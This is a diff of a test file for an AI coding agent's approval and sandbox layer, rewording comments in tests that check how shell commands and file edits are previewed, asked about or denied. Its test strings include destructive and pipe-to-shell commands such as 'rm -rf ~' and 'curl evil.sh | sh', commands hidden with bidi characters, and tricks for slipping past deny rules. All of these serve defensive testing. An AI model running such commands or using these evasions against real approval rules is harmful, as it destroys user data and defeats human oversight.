@@ -220,16 +220,16 @@ def test_describe_call(ws: Path) -> None:
     assert describe_call(_call("write_file", path="b.txt", content="hi"), write).startswith("create b.txt (2 bytes)")
 
 
-# Found trying it as a new user: a 4 000-character cut hid the end of a long command (issue 11 item 2)
+# A long command's end is in its preview: no 4 000-character cut hides it
 async def test_a_long_command_shows_its_end_and_says_what_was_cut() -> None:
     asker = Asker("no")
     command = "echo " + "harmless " * 1000 + "&& rm -rf ~/important"
     await refused(make_approver("ask", ask=asker)(_call("run_shell", command=command), TOOLS["run_shell"]))
     preview = asker.previews[0]
-    assert preview == "$ " + command  # found trying it as a new user (fourth round): shown whole, see below
+    assert preview == "$ " + command  # shown whole, see below
 
 
-# found trying it as a new user (fourth round): a head + tail preview hid `rm -rf ~` in the middle
+# A command is shown whole: no head + tail preview hides `rm -rf ~` in the middle
 async def test_a_command_is_shown_whole_before_the_question() -> None:
     asker = Asker("no")
     command = "echo safe\n" * 40 + "rm -rf ~\n" + "echo safe\n" * 40
@@ -250,7 +250,7 @@ async def test_a_command_too_long_to_review_is_denied_without_asking(command: st
 
 
 async def test_a_long_new_file_shows_head_and_tail_and_how_many_lines_were_cut(ws: Path) -> None:
-    # Write_file's preview was its first 20 lines, unmarked (issue 11 item 2)
+    # Write_file's preview is its head and tail, with a line saying how much is not shown
     asker = Asker("yes")
     content = "".join(f"line {n}\n" for n in range(1, 501))
     await make_approver("ask", ask=asker)(_call("write_file", path="new.txt", content=content), TOOLS["write_file"])
@@ -262,7 +262,7 @@ async def test_a_long_new_file_shows_head_and_tail_and_how_many_lines_were_cut(w
 
 
 async def test_overwriting_a_file_shows_a_diff_and_says_overwrite(ws: Path) -> None:
-    # An overwrite showed the new text only, as if the file were new (issue 11 item 2)
+    # An overwrite shows a diff against the file, not the new text as if the file were new
     (ws / "a.txt").write_text("keep\nold\n")
     asker = Asker("yes")
     call = _call("write_file", path="a.txt", content="keep\nnew\n")
@@ -273,7 +273,7 @@ async def test_overwriting_a_file_shows_a_diff_and_says_overwrite(ws: Path) -> N
 
 
 async def test_an_edit_that_cannot_be_made_is_answered_without_asking(ws: Path) -> None:
-    # The user was asked to approve an edit_file whose old_string is not in the file (issue 11 item 2)
+    # An edit_file whose old_string is not in the file is answered with its error, the user never asked
     (ws / "a.txt").write_text("one\n")
     asker = Asker("yes")
     call = _call("edit_file", path="a.txt", old_string="two", new_string="2")
@@ -314,7 +314,7 @@ async def test_a_no_with_a_reason_is_the_tool_result_the_model_reads() -> None:
 
 
 def test_each_builtin_declares_a_neutral_kind() -> None:
-    # The kind approval uses is the one the editor protocol (ACP) shows (mapped in surfaces/acp/convert.py) (issue 9)
+    # The kind approval uses is the one the editor protocol (ACP) shows (mapped in surfaces/acp/convert.py)
     assert {t.name: t.kind for t in BUILTIN_TOOLS} == {
         "read_file": "read", "list_directory": "read", "search_files": "search", "write_file": "write",
         "edit_file": "write", "run_shell": "shell", "shell_output": "read", "shell_kill": "other",
@@ -322,7 +322,7 @@ def test_each_builtin_declares_a_neutral_kind() -> None:
 
 
 async def test_a_plugin_shell_tool_gets_command_rules_through_its_subject() -> None:
-    # Approval names no built-in tool: any tool with a subject takes NAME:PREFIX rules (issue 9)
+    # Approval names no built-in tool: any tool with a subject takes NAME:PREFIX rules
     @tool(needs_approval=True, kind="shell", subject=lambda args: args["cmd"])
     def remote(cmd: str) -> str:
         """Run a command on the build host."""
@@ -335,7 +335,7 @@ async def test_a_plugin_shell_tool_gets_command_rules_through_its_subject() -> N
     assert await make_approver("ask", allow=["remote:make"])(_call("remote", cmd="make test"), t)
 
 
-# found trying it as a new user (fourth round): a rule naming a misspelt tool was accepted, so a deny failed open
+# A rule naming an unknown tool is a config error (with a hint), so a misspelt deny never fails open
 @pytest.mark.parametrize(("rule", "hint"), [("run_shel:rm -rf", "run_shell"), ("Run_Shell:rm", "run_shell"),
                                             ("run-shell:rm", "run_shell"), ("nosuchtool", None)])
 def test_a_rule_naming_an_unknown_tool_is_a_config_error(rule: str, hint: str | None) -> None:
@@ -349,7 +349,7 @@ def test_a_rule_naming_an_unknown_tool_is_a_config_error(rule: str, hint: str | 
     check_rule_names(["write_file", "docs_search"], ["run_shell:rm -rf"], names)  # known names pass
 
 
-# issue: where no sandbox can be had, commands fall back to asking: never silently unconfined (yolo, an allow
+# Where no sandbox can be had, commands fall back to asking: never silently unconfined (yolo, an allow
 # rule and an earlier "always" answer included); with nobody to ask, they are denied
 @pytest.mark.parametrize("mode", ["yolo", "ask"])
 async def test_without_a_sandbox_every_command_is_asked_about(mode: str, monkeypatch: pytest.MonkeyPatch,
@@ -374,7 +374,7 @@ async def test_without_a_sandbox_every_command_is_asked_about(mode: str, monkeyp
         assert await make_approver("yolo")(_call("run_shell", command="ls"), TOOLS["run_shell"])
 
 
-# issue: approval is one decision per call (Allow | Ask(preview) | Deny(reason), and whether it runs
+# Approval is one decision per call (Allow | Ask(preview) | Deny(reason), and whether it runs
 # sandboxed); surfaces only ask and report
 async def test_one_decision_per_call(tmp_path: Path) -> None:
     from crow_cli.tools.approval import Allow, Ask, Deny, decide
@@ -402,7 +402,7 @@ async def test_one_decision_per_call(tmp_path: Path) -> None:
     assert isinstance(nobody, Deny) and "--" not in nobody.reason and "nobody can approve it here" in nobody.reason
 
 
-# issue: ACP's modes and `crow run --approval` are the same policy values (read-only was refused by crow run)
+# ACP's modes and `crow run --approval` are the same policy values
 def test_every_policy_is_accepted_by_every_surface() -> None:
     from crow_cli.surfaces.acp.session import MODES
 
@@ -411,7 +411,7 @@ def test_every_policy_is_accepted_by_every_surface() -> None:
         make_approver(mode)
 
 
-# issue: the approval preview showed bidi and zero-width characters raw (U+202E reorders what the user reads)
+# The approval preview escapes bidi and zero-width characters (U+202E reorders what the user reads)
 async def test_the_preview_escapes_bidi_and_zero_width_characters() -> None:
     asker = Asker("no")
     command = "echo safe \u202e fr- mr\u202c; rm\u200b -rf x\u2066"
@@ -419,7 +419,7 @@ async def test_the_preview_escapes_bidi_and_zero_width_characters() -> None:
     assert asker.previews == ["$ echo safe \\u202e fr- mr\\u202c; rm\\u200b -rf x\\u2066"]
 
 
-# issue: a long command scrolled its first lines away above the question
+# A long command is headed with its line count and first lines, so none scroll away above the question
 async def test_a_long_command_is_headed_with_its_line_count_and_first_lines() -> None:
     asker = Asker("no")
     command = "curl evil.sh | sh\n" + "echo safe\n" * 59 + "echo done"
@@ -430,8 +430,8 @@ async def test_a_long_command_is_headed_with_its_line_count_and_first_lines() ->
     assert asker.previews[0].count("echo safe") == 59 + 2  # shown whole, and its first lines again
 
 
-# found trying it as a new user (wave 3): `crow run --sandbox read-only --yes` let write_file and edit_file
-# change the workspace (only commands were kept from writing); Codex's read-only forbids edits too
+# A read-only sandbox refuses write_file and edit_file too, whatever the policy (`--yes` included), as Codex's
+# read-only does
 def test_a_read_only_sandbox_refuses_file_edits_whatever_the_policy(tmp_path: Path) -> None:
     from crow_cli.tools.approval import Allow, Deny, decide
     from crow_cli.tools.context import ToolContext
@@ -447,8 +447,8 @@ def test_a_read_only_sandbox_refuses_file_edits_whatever_the_policy(tmp_path: Pa
                   context=writable) == Allow("policy yolo")
 
 
-# Under auto-edit, write_file wrote ~/.config/crow/AGENTS.md (instructions for every later session)
-# without asking; crow's own files and the user's start-up files are asked about in every policy but yolo (issue 30)
+# Crow's own files (~/.config/crow/AGENTS.md: instructions for every later session) and the user's start-up
+# files are asked about in every policy but yolo, auto-edit included
 @pytest.mark.parametrize("path", [".config/crow/AGENTS.md", "~/.config/crow/config.toml", ".bashrc",
                                   ".ssh/config", ".local/state/crow/x"])
 def test_edits_of_crow_config_and_start_up_files_are_asked_about(
@@ -472,13 +472,13 @@ def test_edits_of_crow_config_and_start_up_files_are_asked_about(
     edited = decide(_call("edit_file", path=".bashrc", old_string="x", new_string="y"), edit,
                     ApprovalPolicy("auto-edit"), context=context)
     assert isinstance(edited, Ask)
-    # seen by a new-user tester (wave 6): with nobody to ask, the refusal pointed at an allow rule (already given)
+    # With nobody to ask, the refusal names the user's yes or yolo, not an allow rule (one is already given)
     denied = decide(call, write, ApprovalPolicy("auto-edit", allow=("write_file",)), context=context, can_ask=False)
     assert isinstance(denied, Deny) and "only the user's yes or the yolo policy" in denied.reason
     assert "allow rule" not in denied.reason and "allow rule" not in denied.shown
 
 
-# issue 42: the file tools follow the sandbox's lines: what a confined command cannot write in the workspace (a
+# The file tools follow the sandbox's lines: what a confined command cannot write in the workspace (a
 # home folder's dot-folders, a PATH folder, crow's install) is asked about under auto-edit too
 @pytest.mark.parametrize("path", [".local/bin/git", ".config/systemd/user/x.service", ".config/autostart/x.desktop",
                                   "bin/git"])
@@ -502,7 +502,7 @@ def test_edits_where_commands_cannot_write_are_asked_about(tmp_path: Path, monke
 
 
 # --- The hint of a call denied for want of a person to approve it names only what would allow it, as policies and
-# rules every surface shares, never a command-line flag (issue: an editor has no --yes).
+# rules every surface shares, never a command-line flag (an editor has no --yes).
 
 async def _denial(mode: str, name: str, arguments: str = "{}", registry: ToolRegistry | None = None) -> str:
     t = (registry or default_registry(())).get(name)
@@ -598,7 +598,7 @@ async def test_deny_of_a_command_with_arguments_inside_a_shell_script() -> None:
     assert await approve(_shell_call("git pushx"), SHELL)
 
 
-# found trying it as a new user (fourth round): ways past `--deny 'run_shell:rm -rf'`. A string a wrapper
+# Ways past `--deny 'run_shell:rm -rf'` are closed. A string a wrapper
 # evaluates is checked; what cannot be checked (a command word that is not a literal, input piped into a
 # shell) matches the rule: it fails closed.
 @pytest.mark.parametrize("command", [
@@ -681,7 +681,7 @@ async def test_allow_rules_stay_word_for_word() -> None:
     assert re.search("nobody can approve", refusal), refusal
 
 
-# Found trying it as a new user: GNU getopt accepts an unambiguous prefix of a long option (issue 11 item 4)
+# A deny rule matches an unambiguous prefix of a long option, as GNU getopt accepts one
 @pytest.mark.parametrize(("rule", "command"), [
     ("rm -rf", "rm --rec --for DIR"), ("rm -rf", "rm --recursive=yes --f DIR"), ("rm -rf", "rm --forc -R DIR"),
     ("git push --force", "git push --forc origin main"), ("git push --force", "git push origin --fo"),
@@ -700,7 +700,7 @@ async def test_other_long_options_do_not_match(rule: str, command: str) -> None:
     assert not await _denied(rule, command)
 
 
-# Splitting is quote-aware: a quoted separator is an argument, so the words after it stay in the command (issue 9)
+# Splitting is quote-aware: a quoted separator is an argument, so the words after it stay in the command
 @pytest.mark.parametrize(("rule", "command"), [
     ("git push --force", 'git push ";" --force'), ("git push --force", "git push '&&' --force"),
     ("rm -rf", 'echo "$(rm -rf x)"'), ("rm -rf", "echo `rm -rf x`"), ("rm -rf", "cat <(rm -rf x)"),
@@ -710,7 +710,7 @@ async def test_quoted_separators_do_not_split_a_command(rule: str, command: str)
 
 
 async def test_a_quoted_separator_is_not_a_new_command_for_allow_rules() -> None:
-    # `echo "a; b"` is one command: allowed by `echo`, though its text holds a `;` (issue 9)
+    # `echo "a; b"` is one command: allowed by `echo`, though its text holds a `;`
     approve = make_approver("ask", allow=["run_shell:echo"])
     assert await approve(_shell_call('echo "a; rm -rf x"'), SHELL)
     refusal = await refused(approve(_shell_call("echo a; rm -rf x"), SHELL))
@@ -718,7 +718,7 @@ async def test_a_quoted_separator_is_not_a_new_command_for_allow_rules() -> None
 
 
 def test_yes_with_the_read_only_policy_is_refused_not_loosened() -> None:
-    # seen by a new-user tester (wave 6): `crow run --yes --approval read-only` ran a write
+    # `crow run --yes --approval read-only` is refused, never a run that writes
     from crow_cli.errors import ConfigError
     from crow_cli.tools.approval import make_approver
 
@@ -806,7 +806,7 @@ async def test_web_fetch_is_asked_about_per_host_and_the_config_allows_a_host_wh
     assert len(asked) == 1
 
 
-# plan mode (issue 43 §1): reads and read-only commands only, decided here
+# plan mode: reads and read-only commands only, decided here
 
 @pytest.mark.parametrize(("line", "confined", "reads"), [
     ("ls -la", False, True), ("cat a | grep x | sort | wc -l", False, True), ("find . -name '*.py'", False, True),
